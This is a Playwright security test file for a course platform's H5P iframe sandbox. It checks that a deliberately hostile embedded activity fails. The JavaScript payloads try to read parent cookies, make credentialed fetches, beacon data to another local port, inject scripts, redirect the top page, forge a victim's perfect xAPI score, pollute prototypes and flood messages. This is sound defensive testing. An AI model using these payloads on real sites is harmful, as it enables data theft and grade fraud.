"""A hostile activity: what it tries from inside its frame fails, the page stays alive, and the attempts are told."""

import json
import logging

import pytest
from playwright.sync_api import Error, expect

from courses.h5p.models import Incident, Placement, Result, State, Statement
from courses.h5p.player.document import player_address
from tests.courses.h5p import building
from tests.courses.h5p.factories import AttemptFactory
from tests.journeys.in_a_frame import address_of, frame_of, place_of, placed
from tests.journeys.people import newcomer
from tests.waiting import wait_until

# `tries` are functions; each must throw, or give a promise that is refused. What did not is written on the page.
HOSTILE = """
var NAMESPACE = window.NAMESPACE || {};
NAMESPACE.NAME = (function (EventDispatcher) {
  function Hostile(params, contentId) {
    EventDispatcher.call(this);
    this.params = params;
    this.contentId = contentId;
  }
  Hostile.prototype = Object.create(EventDispatcher.prototype);
  Hostile.prototype.constructor = Hostile;
  Hostile.prototype.attach = function ($container) {
    var told = document.createElement('pre');
    told.id = 'told';
    $container.append(told);
    var params = this.params;
    var say = function (data) { window.parent.postMessage(data, '*'); };
    var soon = function (promise) {
      return Promise.race([promise, new Promise(function (_, no) { setTimeout(no, 2500); })]);
    };
    var loaded = function (tag, attributes) {
      return soon(new Promise(function (yes, no) {
        var element = Object.assign(document.createElement(tag), attributes);
        element.onload = yes;
        element.onerror = no;
        document.body.append(element);
      }));
    };
    var tries = (function () { TRIES })();
    Promise.all(Object.keys(tries).map(function (name) {
      return new Promise(function (done) {
        Promise.resolve().then(tries[name]).then(
          function (value) { done(name + ' : ' + (value === undefined ? 'fait' : value)); },
          function () { done(''); }
        );
      });
    })).then(function (lines) {
      told.textContent = lines.filter(Boolean).join('\\n') + ' fini';
    });
  };
  return Hostile;
})(H5P.EventDispatcher);
"""

REACHES = """
  var site = params.site;
  var elsewhere = 'http://127.0.0.1:' + params.port;
  return {
    'lire la page': function () { return window.parent.document.title; },
    'lire la page du dessus': function () { return window.top.document.cookie; },
    'lire l’adresse de la page': function () { return window.top.location.href; },
    'atteindre l’élément du cadre': function () { return window.frameElement.outerHTML; },
    'lire des témoins': function () { if (!document.cookie) throw 0; return document.cookie; },
    'poser un témoin': function () { document.cookie = 'a=1'; if (!document.cookie) throw 0; return document.cookie; },
    'ouvrir une base': function () {
      return new Promise(function (yes, no) { var r = indexedDB.open('a'); r.onsuccess = yes; r.onerror = no; });
    },
    'ouvrir un cache': function () { return caches.open('a'); },
    'inscrire un agent': function () { return navigator.serviceWorker.register(site + '/static/h5p/js/activity.js'); },
    'lire mon espace': function () { return fetch(site + '/mon-espace/', { credentials: 'include' }); },
    'lire mon espace en aveugle': function () { return fetch(site + '/mon-espace/', { mode: 'no-cors', credentials: 'include' }); },
    'demander une séance': function () { return fetch(params.base + 'seance/', { method: 'POST', credentials: 'include' }); },
    'demander à l’ancienne': function () {
      return soon(new Promise(function (yes, no) {
        var request = new XMLHttpRequest();
        request.onload = yes; request.onerror = no; request.withCredentials = true;
        request.open('GET', site + '/mon-espace/'); request.send();
      }));
    },
    'appeler ailleurs': function () { return fetch(elsewhere + '/vol', { mode: 'no-cors' }); },
    'envoyer une balise': function () { navigator.sendBeacon(elsewhere + '/balise', 'a'); throw 0; },
    'envoyer une balise au site': function () { navigator.sendBeacon(params.base + 'etat/', 'a'); throw 0; },
    'charger une image ailleurs': function () { return loaded('img', { src: elsewhere + '/image.png' }); },
    'charger une image du site': function () { return loaded('img', { src: site + '/media/image.png' }); },
    'charger un script ailleurs': function () { return loaded('script', { src: elsewhere + '/script.js' }); },
    'écrire un script': function () { var s = document.createElement('script'); s.textContent = 'window.RAN = 1'; document.body.append(s); if (!window.RAN) throw 0; },
    'évaluer un texte': function () { return eval('1 + 1'); },
    'ouvrir une prise': function () {
      return soon(new Promise(function (yes, no) { var s = new WebSocket('ws://127.0.0.1:' + params.port); s.onopen = yes; s.onerror = no; }));
    },
    'mettre le site dans un cadre': function () {
      return new Promise(function (yes, no) {
        var f = document.createElement('iframe'); f.src = site + '/mon-espace/'; document.body.append(f);
        setTimeout(function () { try { f.contentWindow.document.title; yes(); } catch (e) { no(); } }, 500);
      });
    },
    'envoyer un formulaire': function () {
      var f = document.createElement('form'); f.action = params.base + 'recommencer/'; f.method = 'post'; document.body.append(f);
      HTMLFormElement.prototype.submit.call(f); throw 0;
    },
    'ouvrir une fenêtre': function () { var w = window.open(elsewhere + '/fenetre'); if (!w) throw 0; return 'ouverte'; },
    'ouvrir une fenêtre par un lien': function () {
      var a = document.createElement('a'); a.href = elsewhere + '/lien'; a.target = '_blank'; a.onclick = function (e) { e.stopImmediatePropagation(); };
      document.body.append(a); a.click(); throw 0;
    },
    'changer la page': function () { window.top.location = elsewhere + '/page'; throw 0; },
    'changer la page par un lien': function () {
      var a = document.createElement('a'); a.href = elsewhere + '/haut'; a.target = '_top'; a.onclick = function (e) { e.stopImmediatePropagation(); };
      document.body.append(a); a.click(); throw 0;
    },
    'prévenir': function () { if (!window.confirm('?')) throw 0; },
    'la caméra': function () { return navigator.mediaDevices.getUserMedia({ video: true }); },
    'le lieu': function () { return new Promise(function (yes, no) { navigator.geolocation.getCurrentPosition(yes, no); }); },
    'le presse-papiers': function () { return navigator.clipboard.readText(); }
  };
"""

# Claims, in the words of the protocol and out of them.
CLAIMS = """
  var perfect = function (more) {
    return Object.assign({
      actor: { mbox: 'mailto:victime@exemple.fr', objectType: 'Agent' },
      verb: { id: 'http://adlnet.gov/expapi/verbs/completed' },
      object: { id: 'urn:autre', objectType: 'Activity' },
      result: { score: { raw: 999, max: 1, min: 0, scaled: 1 }, success: true, completion: true }
    }, more);
  };
  var message = function (type, data) { return { v: 1, type: type, seq: 1, data: data }; };
  return {
    'score parfait': function () { say(message('xapi', { statement: perfect(), tree: null })); },
    'essai d’une autre personne': function () {
      say(message('xapi', { statement: perfect(), tree: null, attempt: params.victim, placement: params.elsewhere }));
    },
    'état énorme': function () {
      say(message('state', { dataType: 'state', subContentId: '0', value: JSON.stringify('x'.repeat(10 * 1024 * 1024)) }));
    },
    'hauteur démesurée': function () { say(message('resize', { height: 1e9 })); },
    'hauteur qui n’est pas un nombre': function () { say(message('resize', { height: 'calc(1e9px)' })); },
    'prototype': function () {
      say(JSON.parse('{"v":1,"type":"__proto__","data":{"__proto__":{"polluted":1}}}'));
      say(JSON.parse('{"v":1,"type":"constructor","data":{"constructor":{"prototype":{"polluted":1}}}}'));
      say(JSON.parse('{"v":1,"type":"xapi","data":{"statement":{"__proto__":{"polluted":1},"verb":{"id":"x"}},"tree":{"__proto__":{"polluted":1}}}}'));
    },
    'autres formes': function () {
      [null, undefined, 0, '', [], [1], new Map(), new Date(), { v: 2 }, { v: 1 }, { v: 1, type: 'start', data: {} }, { v: 1, type: 'xapi', data: null },
        { v: 1, type: {}, data: {} }, message('xapi', { statement: [] }), message('state', { dataType: 1 }), message('link', { href: 'javascript:alert(1)' }),
        message('link', { href: { toString: 1 } }), message('csp', {}), message('print', null), message('failed2', {})].forEach(say);
      var loop = message('xapi', {}); loop.data.statement = loop; say(loop);
      var deep = {}; for (var i = 0, at = deep; i < 20000; i++) at = at.a = {}; try { say(message('xapi', { statement: deep })); } catch (e) { /* too deep to send */ }
    }
  };
"""

FLOOD = """
  return {
    'déluge': function () { for (var i = 0; i < 20000; i++) say({ v: 1, type: 'resize', seq: i, data: { height: i } }); }
  };
"""

LEAVES = "return { 'partir': function () { location.href = 'http://127.0.0.1:' + params.port + '/parti'; } };"


@pytest.fixture
def hostile(visit, site):
    """Opens the page of an activity that tries these things; the page, its placement, its learner."""
    page, learner = visit
    page.goto("about:blank")

    def open_page(tries: str, **content):
        script = HOSTILE.replace("TRIES", tries)
        revision = building.stored({"text": ""}, libraries=[building.library(script=script, fields=None)])
        placement = placed(revision)
        params = {"site": site, "base": f"{site}{address_of(placement)}", "port": 9, **content}
        revision.content_json = json.dumps(params)
        revision.save()
        page.goto(address_of(placement))
        return page, placement, learner

    return open_page


@pytest.fixture
def asked(visit):
    """Every address that the browser really called, and every window that it opened."""
    page, _learner = visit
    seen = {"requests": [], "pages": []}
    page.context.on("response", lambda response: seen["requests"].append(response.url))
    page.context.on("page", lambda opened: seen["pages"].append(opened.url))
    return seen


@pytest.fixture
def quiet_watch(monkeypatch):
    """These journeys provoke what others may not: their console is full of refusals."""
    from tests.journeys.conftest import Watch

    monkeypatch.setattr(Watch, "on_console", lambda self, kind, text: None)
    monkeypatch.setattr(Watch, "on_request", lambda self, request: None)


def finished(page, placement) -> str:
    told = frame_of(page, placement).locator("#told")
    expect(told).to_contain_text("fini")
    return told.inner_text().strip()


def is_alive(page, placement) -> None:
    """The page answers, and it is still the same one."""
    assert page.evaluate("1 + 1") == 2
    assert page.url.endswith(address_of(placement))
    expect(page.get_by_role("heading", level=1)).to_be_visible()


def incidents(placement: Placement) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for kind, detail in Incident.objects.filter(revision=placement.activity.current_revision).values_list(
        "kind", "detail"
    ):
        found.setdefault(kind, set()).add(detail)
    return found


def test_nothing_of_the_page_the_site_or_the_network_is_reached(quiet_watch, hostile, asked, site, caplog):
    caplog.set_level(logging.WARNING, logger="courses.h5p.incidents")
    page, placement, _learner = hostile(REACHES)

    assert finished(page, placement) == "fini"

    is_alive(page, placement)
    outside = [
        url for url in asked["requests"] if not url.startswith((f"{site}/static/", f"{site}/h5p/", site + "/compte/"))
    ]
    assert outside == []
    assert [url for url in asked["requests"] if "mon-espace" in url or "media/" in url] == []
    assert asked["pages"] == []
    assert wait_until(
        lambda: (
            {"connect-src", "img-src", "popup", "cookie"}
            <= {line.split()[0] for line in incidents(placement).get("csp", ())}
        ),
        seconds=20,
    ), incidents(placement)
    assert "csp" in caplog.text
    assert f"Activity {placement.activity_id}" in caplog.text


def test_what_it_claims_is_recomputed_refused_or_bounded(quiet_watch, hostile):
    victim = AttemptFactory(learner=newcomer())
    page, placement, learner = hostile(CLAIMS, victim=str(victim.public_id), elsewhere=str(victim.placement.key))

    finished(page, placement)
    assert wait_until(lambda: Statement.objects.filter(verb="completed").count() >= 2, seconds=20)

    is_alive(page, placement)
    results = Result.objects.filter(attempt__learner=learner)
    assert {(result.points, result.trust) for result in results} == {(0, "declared")}
    assert not Statement.objects.filter(attempt=victim).exists()
    assert not State.objects.exists()
    assert {
        statement.document["actor"]["account"]["name"] for statement in Statement.objects.filter(verb="completed")
    } != {"victime@exemple.fr"}
    assert "victime" not in json.dumps([statement.document for statement in Statement.objects.all()])
    assert page.evaluate("({}).polluted") is None
    assert place_of(page, placement).locator("iframe").bounding_box()["height"] <= 20_000
    told_of = [
        ("size", {"state"}),
        ("message", {"__proto__", "constructor", "start", "failed2", "resize", "print"}),
        ("link", {"javascript:alert(1)"}),
    ]
    assert wait_until(
        lambda: all(details <= incidents(placement).get(kind, set()) for kind, details in told_of), seconds=20
    ), incidents(placement)


def test_a_flood_of_messages_stops_the_activity_and_not_the_page(quiet_watch, hostile):
    page, placement, learner = hostile(FLOOD)
    place = place_of(page, placement)

    expect(place.get_by_text("Nous avons arrêté cette activité")).to_be_visible()

    expect(place.locator("iframe")).to_have_count(0)
    is_alive(page, placement)
    expect(place.get_by_role("button", name="Réessayer")).to_be_visible()
    assert wait_until(lambda: "rate" in incidents(placement).get("stopped", ()), seconds=20)
    assert not Statement.objects.filter(attempt__learner=learner, verb="completed").exists()


def test_a_frame_that_leaves_its_page_goes_nowhere(quiet_watch, hostile, asked, site):
    page, placement, _learner = hostile(LEAVES)
    place = place_of(page, placement)

    expect(place.get_by_text("Nous avons arrêté cette activité")).to_be_visible()

    assert not [url for url in asked["requests"] if "parti" in url]
    is_alive(page, placement)
    assert wait_until(lambda: "navigation" in incidents(placement).get("stopped", ()), seconds=20)


def test_the_address_of_the_player_opened_alone_has_no_origin_either(quiet_watch, visit):
    page, _learner = visit
    revision = building.stored()

    page.goto(player_address(revision))

    expect(page.get_by_role("button", name="Répondre")).to_be_visible()
    assert page.evaluate("self.origin") == "null"
    with pytest.raises(Error):
        page.evaluate("fetch('/mon-espace/', { credentials: 'include' })")
